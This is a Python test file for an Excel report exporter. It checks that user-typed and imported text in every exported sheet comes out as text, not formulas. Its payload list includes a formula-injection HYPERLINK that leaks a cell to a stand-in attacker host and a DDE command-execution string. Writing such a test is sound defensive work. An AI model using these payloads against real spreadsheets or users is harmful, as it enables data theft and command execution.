"""QUALITY.md A7: text a user typed or an import brought in reaches the Excel report as text, never as
a formula, whatever it starts with: every cell of every sheet, from report_file, the overview's
download and the export-report command."""
import base64
from collections import defaultdict
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from models import Agency, Assignment, Indicator, Plan, Section, Task
from services.common.clock import today
from services.publication.report import report_file
from tests import test_indicator_callbacks as indicator_form
from tests import test_tasks_callbacks as task_form

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1)", "\t=1", "\r=1", "#N/A"]
PERIOD = "2026-Q2"


def typed(text: str) -> str:
    """What a form keeps of what was typed (services.common.inputs.clean_text trims the ends)."""
    return text.strip()


def imported(text: str) -> str:
    """Line ends as compared: a bare CR comes back as LF or as CR depending on the XML parser
    (openpyxl with or without lxml), which is not what this test is about."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _single_assignments(session, agency_code: str) -> list[tuple[int, int, int]]:
    """(assignment id, its version, task id) of the tasks the agency leads alone, earliest deadline first."""
    shared = select(Assignment.task_id).group_by(Assignment.task_id).having(func.count() > 1)
    return [tuple(row) for row in session.execute(
        select(Assignment.id, Assignment.version, Task.id).join(Task, Task.id == Assignment.task_id)
        .join(Agency, Agency.id == Assignment.agency_id)
        .where(Agency.code == agency_code, Assignment.task_id.not_in(shared))
        .order_by(Task.due_date.is_(None), Task.due_date, Task.position))]


@pytest.fixture
def injected(app, demo_db):
    """Every payload typed into each form field and written into each imported column that the
    report prints; returns {(sheet, column): texts that must read back exactly, as text}."""
    expected = defaultdict(set)
    with demo_db.read() as s:
        assignments = _single_assignments(s, "so-khcn")
        indicators = s.scalars(select(Indicator.id).order_by(Indicator.position).limit(len(PAYLOADS))).all()
    # The earliest deadlines are overdue at the end of PERIOD; the next ones are marked done.
    overdue, done = assignments[:len(PAYLOADS)], assignments[len(PAYLOADS):2 * len(PAYLOADS)]
    assert len(done) == len(PAYLOADS)

    agency = task_form.logged_in(app, "so-khcn")
    for payload, late, finished in zip(PAYLOADS, overdue, done):
        late_form = {**task_form.DONE_FORM, "tasks-form-status": "in_progress", "tasks-form-progress": 50,
                     "tasks-form-result": payload, "tasks-form-delay-reason": payload, "tasks-form-note": payload}
        done_form = {**task_form.DONE_FORM, "tasks-form-result": payload, "tasks-form-note": payload}
        for (assignment_id, version, _), form in ((late, late_form), (finished, done_form)):
            body = task_form.response_of(task_form.save(agency, assignment_id, version, form))
            assert body["tasks-form-version"]["data"] == version + 1
        expected["Phụ lục nhiệm vụ", "F"].add(typed(payload))
        expected["Quá hạn", "I"].add(typed(payload))

    with demo_db.write() as s:
        plan = s.scalar(select(Plan))
        plan.title = PAYLOADS[0]
        expected["Tổng hợp", "A"].add(imported(PAYLOADS[0]))
        for index, section in enumerate(s.scalars(select(Section).order_by(Section.id))):
            section.title = PAYLOADS[index % len(PAYLOADS)]
            expected["Phụ lục mục tiêu" if section.appendix == "indicators" else "Phụ lục nhiệm vụ", "B"].add(
                imported(section.title))
        for payload, (*_, late_task), (*_, done_task) in zip(PAYLOADS, overdue, done):
            for task in (s.get(Task, late_task), s.get(Task, done_task)):
                task.title, task.lead_text = payload, payload
            expected["Phụ lục nhiệm vụ", "B"].add(imported(payload))
            expected["Phụ lục nhiệm vụ", "C"].add(imported(payload))
            expected["Quá hạn", "B"].add(imported(payload))
        agency_ids = s.scalars(select(Assignment.agency_id).distinct().order_by(Assignment.agency_id)
                               .limit(len(PAYLOADS))).all()
        for payload, agency_id in zip(PAYLOADS, agency_ids):
            s.get(Agency, agency_id).name = payload
            expected["Theo đơn vị", "A"].add(imported(payload))
        for payload, indicator_id in zip(PAYLOADS, indicators):
            indicator = s.get(Indicator, indicator_id)
            indicator.name, indicator.unit, indicator.target_text = payload, payload, payload
            for column in "BCD":
                expected["Phụ lục mục tiêu", column].add(imported(payload))

    secretariat = task_form.logged_in(app, "tgv")
    for payload, indicator_id in zip(PAYLOADS, indicators):
        body = task_form.response_of(indicator_form.save(secretariat, indicator_id, 0, period=PERIOD,
                                                         value=payload, source_note=payload))
        assert "Đã lưu kết quả" in body["indicator-toast"]["children"]
        expected["Phụ lục mục tiêu", "E"].add(typed(payload))
    return expected


def _by_report_file(app, db, tmp_path) -> bytes:
    with db.read() as s:
        return report_file(s, s.scalar(select(Plan)), PERIOD, today(), "xlsx")[0]


def _by_download(app, db, tmp_path) -> bytes:
    body = task_form.response_of(task_form.logged_in(app, "lanhdao").call(
        "overview-export.n_clicks", 1, {"overview-kind": "quarter", "overview-period": PERIOD}))
    return base64.b64decode(body["overview-download"]["data"]["content"])


def _by_command(app, db, tmp_path) -> bytes:
    with db.read() as s:
        plan_id = s.scalar(select(Plan.id))
    out = tmp_path / "bao-cao.xlsx"
    result = app.server.test_cli_runner().invoke(
        args=["export-report", "--plan", str(plan_id), "--period", PERIOD, "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out.read_bytes()


@pytest.mark.parametrize("export", [_by_report_file, _by_download, _by_command],
                         ids=["report_file", "download", "export-report"])
def test_user_and_imported_text_is_exported_as_text(app, demo_db, tmp_path, injected, export):
    book = load_workbook(BytesIO(export(app, demo_db, tmp_path)))
    found, not_text = defaultdict(set), []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.data_type != "s"):
                    not_text.append((sheet.title, cell.coordinate, cell.data_type, cell.value))
                elif isinstance(cell.value, str):
                    found[sheet.title, cell.column_letter].add(imported(cell.value))
    assert not_text == []
    for (sheet, column), texts in injected.items():
        assert texts <= found[sheet, column], (sheet, column, texts - found[sheet, column])
